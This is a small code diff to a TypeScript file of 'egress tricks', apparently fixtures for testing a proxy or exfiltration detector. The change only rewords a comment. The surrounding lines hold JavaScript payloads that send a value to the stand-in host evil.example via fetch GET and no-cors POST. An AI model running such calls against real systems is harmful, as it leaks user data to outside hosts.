@@ -123,7 +123,7 @@ export const EGRESS_TRICKS: readonly Trick[] = [
 
 const S = 'https://evil.example'
 
-/** The same from a page over TLS, where the proxy sees hosts alone. */
+/** The same from a page over TLS, where the proxy sees only hosts. */
 export const SECURE_TRICKS: readonly Trick[] = [
   js('fetch', `fetch('${S}/?'+V,{mode:'no-cors'})`),
   js('POST', `fetch('${S}/',{method:'POST',mode:'no-cors',body:V})`),
